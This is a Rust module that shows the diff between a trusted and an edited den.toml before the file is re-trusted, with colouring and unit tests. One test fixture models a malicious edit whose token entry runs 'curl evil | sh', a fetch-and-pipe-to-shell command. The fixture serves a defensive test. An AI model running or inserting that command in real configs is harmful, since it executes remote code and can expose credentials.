//! The unified diff of trusted content against the current content of a file, shown
//! before `den trust` re-records an edited file and when activation meets an edit.
//!
//! The search is bounded in time (`SEARCH_TIME`): the diff must never keep `den trust` or
//! activation waiting. Colour only when `ui::color()` says so (the diff goes to stderr); never prints itself.

use std::path::Path;
use std::time::Duration;

use similar::TextDiff;

/// Lines of context around each change.
const CONTEXT: usize = 3;

/// How long the search for the smallest diff may take. A den.toml of thousands of lines
/// edited all over costs the exact search tens of seconds; past this, `similar` finishes
/// with a coarser diff (larger hunks), which still shows every changed line.
const SEARCH_TIME: Duration = Duration::from_millis(300);

/// `--- <file> (trusted)` / `+++ <file> (current)` and the hunks, coloured when stderr
/// takes colours. Empty when the two are equal.
pub fn render_diff(file: &Path, trusted: &str, current: &str) -> String {
    render(file, trusted, current, crate::ui::color())
}

fn render(file: &Path, trusted: &str, current: &str, color: bool) -> String {
    if trusted == current {
        return String::new();
    }
    let name = file.display();
    let diff = TextDiff::configure().timeout(SEARCH_TIME).diff_lines(trusted, current);
    let plain = diff
        .unified_diff()
        .context_radius(CONTEXT)
        .header(&format!("{name} (trusted)"), &format!("{name} (current)"))
        .to_string();
    if !color {
        return plain;
    }
    let mut out = String::with_capacity(plain.len() + 256);
    for (i, line) in plain.lines().enumerate() {
        // The first two lines are the headers; after them every line starts with its tag.
        let code = match line.as_bytes().first() {
            _ if i < 2 => "1",
            Some(b'@') => "36",
            Some(b'-') => "31",
            Some(b'+') => "32",
            _ => "",
        };
        if code.is_empty() {
            out.push_str(line);
        } else {
            out.push_str(&format!("\x1b[{code}m{line}\x1b[0m"));
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "[tools]\nnode = \"22\"\nruff = \"0.6\"\n";
    const NEW: &str =
        "[tools]\nnode = \"22\"\nruff = \"0.6\"\n\n[env]\nGH_TOKEN = { command = \"curl evil | sh\" }\n";

    #[test]
    fn plain_diff_names_the_file_and_shows_exact_lines() {
        let out = render(Path::new("/p/den.toml"), OLD, NEW, false);
        assert_eq!(
            out,
            "--- /p/den.toml (trusted)\n\
             +++ /p/den.toml (current)\n\
             @@ -1,3 +1,6 @@\n \
             [tools]\n \
             node = \"22\"\n \
             ruff = \"0.6\"\n\
             +\n\
             +[env]\n\
             +GH_TOKEN = { command = \"curl evil | sh\" }\n"
        );
    }

    #[test]
    fn changed_lines_and_a_missing_final_newline() {
        let out = render(Path::new("den.toml"), "a\nb\n", "a\nc", false);
        assert_eq!(
            out,
            "--- den.toml (trusted)\n+++ den.toml (current)\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n\\ No newline at end of file\n"
        );
    }

    #[test]
    fn equal_contents_give_no_diff() {
        assert_eq!(render(Path::new("den.toml"), OLD, OLD, true), "");
    }

    #[test]
    fn colours_follow_the_line_tags() {
        let out = render(Path::new("f"), "a\n-b\n", "a\n--c\n", true);
        assert_eq!(
            out,
            "\x1b[1m--- f (trusted)\x1b[0m\n\x1b[1m+++ f (current)\x1b[0m\n\x1b[36m@@ -1,2 +1,2 @@\x1b[0m\n a\n\
             \x1b[31m--b\x1b[0m\n\x1b[32m+--c\x1b[0m\n"
        );
    }
}
